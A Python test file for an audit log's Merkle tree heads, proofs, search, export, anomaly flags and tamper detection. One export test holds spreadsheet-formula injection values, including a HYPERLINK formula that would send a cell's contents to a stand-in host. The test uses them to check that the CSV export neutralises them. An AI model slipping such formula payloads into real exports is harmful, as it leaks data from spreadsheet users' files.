"""The audit log's Merkle side on SQLite: the frontier, signed tree heads, proofs, search,
export, anomaly flags, and the migration of a log written before tree heads existed."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text
from sqlalchemy.orm import Session, sessionmaker

from exchange import audit
from exchange.audit import anomalies, heads, proofs, search
from exchange.audit.heads import Frontier, TreeHeadNotFoundError
from exchange.core.config import AuditSettings
from exchange.core.db import make_engine, migrate, session_factory, transaction
from exchange.core.errors import NotFoundError, ValidationError
from exchange.core.models import AuditEntry
from exchange.security import crypto, merkle
from exchange.security.keystore import LocalKeyStore
from tests.support import audit as log
from tests.support.database import migrated
from tests.support.keys import MASTER_KEY


@pytest.fixture
def sessions(tmp_path: Path) -> Iterator[sessionmaker[Session]]:
    with migrated(f"sqlite:///{tmp_path}/audit.db") as factory:
        yield factory


@pytest.fixture
def keystore(sessions: sessionmaker[Session]) -> LocalKeyStore:
    return LocalKeyStore(sessions, MASTER_KEY)


def _leaf(n: int) -> bytes:
    return hashlib.sha256(n.to_bytes(4, "big")).digest()


def _stored_leaves(sessions: sessionmaker[Session]) -> list[bytes]:
    """Leaf hashes recomputed from each entry's content: SHA-256(0x00 || encoding)."""
    with sessions() as s:
        entries = s.query(AuditEntry).order_by(AuditEntry.seq).all()
        return [hashlib.sha256(b"\x00" + audit.content(e)).digest() for e in entries]


# --- the frontier ---------------------------------------------------------------------------


@given(st.integers(min_value=0, max_value=300))
def test_the_frontier_root_is_the_rfc6962_tree_hash(size: int) -> None:
    leaves = [_leaf(i) for i in range(size)]
    frontier = Frontier()
    frontier.extend(leaves)

    assert frontier.root() == merkle.root(leaves)
    assert sum(count for _, count, _ in frontier.subtrees()) == size
    # Rebuilt from its stored nodes, it is the same frontier and extends the same way.
    again = Frontier(size, frontier.nodes)
    again.append(_leaf(size))
    assert again.root() == merkle.root([*leaves, _leaf(size)])


def test_a_frontier_with_the_wrong_number_of_nodes_is_refused() -> None:
    with pytest.raises(ValueError, match="subtrees"):
        Frontier(6, [_leaf(0)])


# --- signed tree heads ----------------------------------------------------------------------


def test_an_empty_log_has_no_head_to_sign(
    sessions: sessionmaker[Session], keystore: LocalKeyStore
) -> None:
    assert heads.sign(sessions, keystore) is None


def test_a_signed_head_covers_every_entry_under_the_audit_key(
    sessions: sessionmaker[Session], keystore: LocalKeyStore
) -> None:
    log.build(sessions, keystore, 7)

    head = heads.sign(sessions, keystore, now_ms=1_700_000_000_123)

    assert head is not None
    assert head.tree_size == 7
    assert head.root == merkle.root(_stored_leaves(sessions)).hex()
    # The documented message, signed by the key `exchange audit public-key` exports.
    message = (
        b"exchange.audit.tree-head.v1\x00"
        + (7).to_bytes(8, "big")
        + (1_700_000_000_123).to_bytes(8, "big")
        + bytes.fromhex(head.root)
    )
    with sessions() as s:
        keys = heads.public_keys(s)
    assert list(keys) == [head.key_id]
    crypto.verify(keys[head.key_id], message, bytes.fromhex(head.signature))


def test_heads_extend_incrementally_and_nothing_new_means_the_same_head(
    sessions: sessionmaker[Session], keystore: LocalKeyStore
) -> None:
    log.build(sessions, keystore, 5)
    first = heads.sign(sessions, keystore)
    assert heads.sign(sessions, keystore) == first

    log.build(sessions, keystore, 0)
    with transaction(sessions) as s:
        for n in range(6, 14):
            audit.append(s, log.decision(n), at=log.T0)
    second = heads.sign(sessions, keystore)

    assert second is not None
    assert second.tree_size == 13
    assert second.root == merkle.root(_stored_leaves(sessions)).hex()
    with sessions() as s:
        assert [h.tree_size for h, _ in heads.all_heads(s)] == [5, 13]


# --- proofs ---------------------------------------------------------------------------------


def test_every_inclusion_proof_verifies_against_its_signed_head(
    sessions: sessionmaker[Session], keystore: LocalKeyStore
) -> None:
    log.build(sessions, keystore, 13, head_every=5)  # heads at 5 and 10
    heads.sign(sessions, keystore)  # and 13

    with sessions() as s:
        for size in (5, 10, 13):
            for index in range(size):
                proof = proofs.inclusion(s, index, size)
                leaf = hashlib.sha256(b"\x00" + proof.entry.encode()).digest()
                assert leaf.hex() == proof.leaf_hash
                merkle.verify_inclusion(
                    leaf,
                    index,
                    size,
                    [bytes.fromhex(p) for p in proof.path],
                    bytes.fromhex(proof.head.root),
                )
        latest = proofs.inclusion(s, 0)
    assert latest.head.tree_size == 13


def test_consistency_proofs_verify_between_signed_heads(
    sessions: sessionmaker[Session], keystore: LocalKeyStore
) -> None:
    log.build(sessions, keystore, 13, head_every=3)
    heads.sign(sessions, keystore)
    sizes = [3, 6, 9, 12, 13]

    with sessions() as s:
        for first in sizes:
            for second in sizes:
                if first > second:
                    continue
                proof = proofs.consistency(s, first, second)
                merkle.verify_consistency(
                    first,
                    second,
                    bytes.fromhex(proof.first.root),
                    bytes.fromhex(proof.second.root),
                    [bytes.fromhex(p) for p in proof.path],
                )


def test_proofs_for_missing_entries_or_heads_are_refused(
    sessions: sessionmaker[Session], keystore: LocalKeyStore
) -> None:
    with sessions() as s, pytest.raises(TreeHeadNotFoundError, match="no signed tree head"):
        proofs.inclusion(s, 0)
    log.build(sessions, keystore, 4, head_every=4)

    with sessions() as s:
        with pytest.raises(NotFoundError, match="not in the tree of 4"):
            proofs.inclusion(s, 4)
        with pytest.raises(TreeHeadNotFoundError, match="tree size 3"):
            proofs.inclusion(s, 0, 3)
        with pytest.raises(ValidationError, match="larger"):
            proofs.consistency(s, 4, 2)


# --- search and export ----------------------------------------------------------------------


def test_search_filters_combine_and_pages_follow_the_log(
    sessions: sessionmaker[Session], keystore: LocalKeyStore
) -> None:
    log.build(sessions, keystore, 20)
    subject = f"{3:064x}"  # entries 3, 8, 13, 18

    with sessions() as s:
        by_subject = search.search(s, search.Filters(subject=subject))
        by_actor_and_denied = search.search(s, search.Filters(actor="cw1@civil", decision="deny"))
        window = search.search(
            s,
            search.Filters(
                since=log.T0 + timedelta(seconds=5), until=log.T0 + timedelta(seconds=8)
            ),
        )
        page1 = search.search(s, search.Filters(), limit=8)
        page2 = search.search(s, search.Filters(), after=page1[-1].seq, limit=8)

    assert [e.seq for e in by_subject] == [3, 8, 13, 18]
    assert [e.seq for e in by_actor_and_denied] == [3, 9, 15]
    assert [e.seq for e in window] == [5, 6, 7]
    assert [e.seq for e in page1 + page2] == list(range(1, 17))
    with pytest.raises(ValidationError, match="allow or deny"):
        search.Filters(decision="maybe")


def test_exports_in_csv_and_json_lines_hold_every_matching_entry(
    sessions: sessionmaker[Session], keystore: LocalKeyStore
) -> None:
    log.build(sessions, keystore, 6)

    with sessions() as s:
        jsonl = "".join(search.export(search.iter_entries(s, search.Filters()), "jsonl"))
        csv_text = "".join(
            search.export(search.iter_entries(s, search.Filters(decision="deny")), "csv")
        )

    lines = [json.loads(line) for line in jsonl.splitlines()]
    assert [e["seq"] for e in lines] == [1, 2, 3, 4, 5, 6]
    assert lines[0]["index"] == 0
    assert lines[0]["subjects"] == [f"{1:064x}"]
    assert "prev_hash" not in lines[0]
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert [(r["seq"], r["decision"], r["fields"]) for r in rows] == [
        ("3", "deny", "full_name;birth_date"),
        ("6", "deny", "full_name;birth_date"),
    ]
    with pytest.raises(ValidationError, match="format"):
        list(search.export(iter([]), "xml"))


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
    sessions: sessionmaker[Session],
) -> None:
    """A caseworker types the case reference (and a 422's detail lands in the reason):
    an auditor opening the export in a spreadsheet must not run what they typed."""
    typed = '=HYPERLINK("http://x.example/?"&B2,"case")'
    with transaction(sessions) as s:
        audit.append(s, log.decision(1, case_ref=typed, reason="+1+2"), at=datetime.now(UTC))
        audit.append(s, log.decision(2, case_ref="@SUM(A1)", reason="-3"), at=datetime.now(UTC))
    with sessions() as s:
        csv_text = "".join(search.export(search.iter_entries(s, search.Filters()), "csv"))
        jsonl = "".join(search.export(search.iter_entries(s, search.Filters()), "jsonl"))

    rows = list(csv.DictReader(io.StringIO(csv_text)))
    cells = [v for row in rows for v in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [(r["case_ref"], r["reason"]) for r in rows] == [
        ("'" + typed, "'+1+2"),
        ("'@SUM(A1)", "'-3"),
    ]
    assert json.loads(jsonl.splitlines()[0])["case_ref"] == typed  # JSON keeps it as it is


# --- anomaly flags --------------------------------------------------------------------------


def _append_all(sessions: sessionmaker[Session], items: list[tuple[datetime, audit.Decision]]):
    with transaction(sessions) as s:
        for at, d in items:
            audit.append(s, d, at=at)


def test_the_four_anomaly_flags(sessions: sessionmaker[Session]) -> None:
    monday_10 = datetime(2026, 11, 2, 2, 0, tzinfo=UTC)  # 10:00 in Beijing
    monday_22 = datetime(2026, 11, 2, 14, 0, tzinfo=UTC)  # 22:00 in Beijing
    items = [
        # an ordinary caseworker: office hours, case numbers, a few people
        *[(monday_10 + timedelta(minutes=i), log.decision(i, actor="calm")) for i in range(1, 5)],
        # an evening of lookups without case numbers, 8 people in an hour
        *[
            (
                monday_22 + timedelta(minutes=i),
                log.decision(
                    3 * i + 1, actor="night", case_ref=None, subjects=[f"p{i}"], decision="allow"
                ),
            )
            for i in range(8)
        ],
        # four denials in two minutes
        *[
            (
                monday_10 + timedelta(seconds=30 * i),
                log.decision(3, actor="prober", decision="deny", subjects=[]),
            )
            for i in range(4)
        ],
    ]
    _append_all(sessions, items)
    settings = AuditSettings(volume_per_hour=5, denial_burst=4, denial_window_s=120)

    with sessions() as s:
        found = anomalies.scan(
            s, settings, since=monday_10 - timedelta(hours=1), until=monday_22 + timedelta(hours=2)
        )

    flags = {(a.kind, a.actor): a for a in found}
    assert set(flags) == {
        ("denial_burst", "prober"),
        ("volume", "night"),
        ("off_hours", "night"),
        ("no_case_ref", "night"),
    }
    assert flags[("volume", "night")].count == 8
    assert flags[("off_hours", "night")].count == 8
    assert flags[("denial_burst", "prober")].count == 4
    assert flags[("no_case_ref", "night")].seqs[:2] == [5, 6]


# --- migration of an existing log ----------------------------------------------------------


def test_a_log_written_before_revision_0007_is_migrated_and_verifies(tmp_path: Path) -> None:
    from alembic import command
    from alembic.config import Config

    from exchange.core.db import MIGRATIONS_DIR

    engine = make_engine(f"sqlite:///{tmp_path}/old.db")
    cfg = Config()
    cfg.set_main_option("script_location", str(MIGRATIONS_DIR))
    with engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.upgrade(cfg, "0006")
    prev = audit.GENESIS
    with engine.begin() as conn:  # the old append: a hash chain, no leaves
        for seq in (1, 2, 3):
            values = log.decision(seq).__dict__ | {"seq": seq, "at": log.T0}
            encoding = audit.log.row_content(values)
            entry_hash = hashlib.sha256(prev.encode() + encoding).hexdigest()
            conn.execute(
                text(
                    "INSERT INTO audit_log (seq, at, request_id, actor, department, role, "
                    "purpose, case_ref, action, dataset, subjects, fields, decision, reason, "
                    "status, prev_hash, entry_hash) VALUES (:seq, :at, :request_id, :actor, "
                    ":department, :role, :purpose, :case_ref, :action, :dataset, :subjects, "
                    ":fields, :decision, :reason, :status, :prev, :hash)"
                ),
                values
                | {
                    "at": "2026-11-02 01:00:00.000000",
                    "subjects": json.dumps(values["subjects"]),
                    "fields": json.dumps(values["fields"]),
                    "prev": prev,
                    "hash": entry_hash,
                },
            )
            prev = entry_hash
    try:
        migrate(engine)
        sessions = session_factory(engine)
        with transaction(sessions) as s:
            audit.append(s, log.decision(4), at=log.T0)
        heads.sign(sessions, LocalKeyStore(sessions, MASTER_KEY))

        report = log.check(sessions)
        with sessions() as s:
            found = search.search(s, search.Filters(subject=f"{2:064x}"))
    finally:
        engine.dispose()

    assert report.ok, report.problem
    assert (report.size, report.heads_checked) == (4, 1)
    assert [e.seq for e in found] == [2]


# --- the canonical encoding -----------------------------------------------------------------

_text = st.text(max_size=12)


@given(
    decision=st.builds(
        audit.Decision,
        request_id=_text,
        action=_text,
        decision=st.sampled_from(["allow", "deny"]),
        reason=_text,
        status=st.integers(min_value=100, max_value=599),
        actor=st.none() | _text,
        department=st.none() | _text,
        purpose=st.none() | _text,
        case_ref=st.none() | _text,
        dataset=st.none() | _text,
        subjects=st.lists(_text, max_size=3),
        fields=st.lists(_text, max_size=3),
        key_id=st.none() | _text,
        latency_ms=st.none() | st.integers(min_value=0, max_value=2**31 - 1),
    ),
    seq=st.integers(min_value=1, max_value=2**40),
    at=st.datetimes(timezones=st.just(UTC)),
)
def test_the_fast_encoding_is_exactly_json_dumps(
    decision: audit.Decision, seq: int, at: datetime
) -> None:
    values = audit.log.entry_values(seq, audit.GENESIS, decision, at)
    # A column added later (key_id) is in the encoding only when set.
    body = {
        k: values[k]
        for k in audit.log.CONTENT_COLUMNS
        if not (k in audit.log.OPTIONAL_COLUMNS and values[k] is None)
    }
    body["at"] = at.isoformat(timespec="microseconds")
    expected = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=False)

    assert audit.log.row_content(values) == expected.encode()
    assert values["leaf_hash"] == hashlib.sha256(b"\x00" + expected.encode()).hexdigest()


def test_an_entry_without_a_key_id_keeps_the_encoding_it_was_written_with() -> None:
    """Entries written before key_id existed verify as before; a key id, once set, is
    covered by the hashes (changing or removing it is an alteration)."""
    values = audit.log.entry_values(1, audit.GENESIS, log.decision(1), log.T0)
    assert b"key_id" not in audit.log.row_content(values)
    with_key = audit.log.entry_values(1, audit.GENESIS, log.decision(1, key_id="a1b2c3"), log.T0)
    assert b'"key_id":"a1b2c3"' in audit.log.row_content(with_key)
    assert with_key["entry_hash"] != values["entry_hash"]


@given(
    latency=st.integers(min_value=0, max_value=2**31 - 1),
    key_id=st.none() | st.text(max_size=64),
    at=st.datetimes(timezones=st.just(UTC)),
)
def test_a_latency_is_encoded_as_the_reference_encodes_it(
    latency: int, key_id: str | None, at: datetime
) -> None:
    """latency_ms is optional like key_id: the fast encoding gives the reference's bytes
    with it, and an entry without it keeps the encoding it was written with."""
    without = audit.log.entry_values(7, audit.GENESIS, log.decision(7, key_id=key_id), at)
    decision = log.decision(7, key_id=key_id)
    decision.latency_ms = latency
    values = audit.log.entry_values(7, audit.GENESIS, decision, at)
    canonical = audit.log.canonical_time(at)

    assert audit.log.encode(values, canonical) == audit.log.reference_encoding(values, canonical)
    assert f'"latency_ms":{latency},'.encode() in audit.log.row_content(values)
    assert b"latency_ms" not in audit.log.row_content(without)
    assert values["entry_hash"] != without["entry_hash"]


def test_a_log_with_latencies_verifies_and_an_altered_latency_is_found(
    sessions: sessionmaker[Session],
) -> None:
    """Old entries (no latency) and new ones (with it) verify together; changing or
    removing a recorded latency is an alteration, found at its entry."""
    with transaction(sessions) as s:
        for n in range(1, 7):
            made = log.decision(n)
            made.latency_ms = None if n <= 3 else 10 * n
            audit.append(s, made, at=log.T0 + timedelta(seconds=n))
    with sessions() as s:
        assert audit.verify(s) is None
    for seq, value in [(5, 999), (6, None)]:
        with transaction(sessions) as s:
            s.execute(
                text("UPDATE audit_log SET latency_ms = :v WHERE seq = :seq"),
                {"v": value, "seq": seq},
            )
        with sessions() as s:
            assert audit.verify(s) == seq
        with transaction(sessions) as s:  # put it back
            s.execute(
                text("UPDATE audit_log SET latency_ms = :v WHERE seq = :seq"),
                {"v": 10 * seq, "seq": seq},
            )


def test_odd_values_take_the_reference_encoding() -> None:
    values = audit.log.entry_values(1, audit.GENESIS, log.decision(1), log.T0)
    values["status"] = True  # a bool is an int to Python, not to JSON
    values["subjects"] = [1, None]

    assert audit.log.row_content(values) == audit.log.reference_encoding(
        values, audit.log.canonical_time(log.T0)
    )
    assert b'"status":true' in audit.log.row_content(values)


# --- verifying with several processes -------------------------------------------------------


@pytest.mark.parametrize("tamper", [log.delete, log.insert, log.rewrite_and_rehash])
def test_several_processes_find_what_one_finds(
    sessions: sessionmaker[Session], keystore: LocalKeyStore, tamper: Any
) -> None:
    for seq in (4, 5):  # the three workers' ranges are 1-4, 5-8 and 9-12
        log.reset(sessions)
        log.build(sessions, keystore, 12, head_every=4)
        if seq == 4:
            with sessions() as s:
                intact = audit.check(s, workers=3, parallel_min=1)
            assert (intact.ok, intact.size, intact.heads_checked) == (True, 12, 3)
        tamper(sessions, seq)

        with sessions() as s:
            one = audit.check(s, workers=1).problem
            several = audit.check(s, workers=3, parallel_min=1).problem

        assert one is not None
        assert several is not None
        found = [(p.index, p.localised_by, p.range_end) for p in (one, several)]
        assert found[0] == found[1], (tamper.__name__, seq)
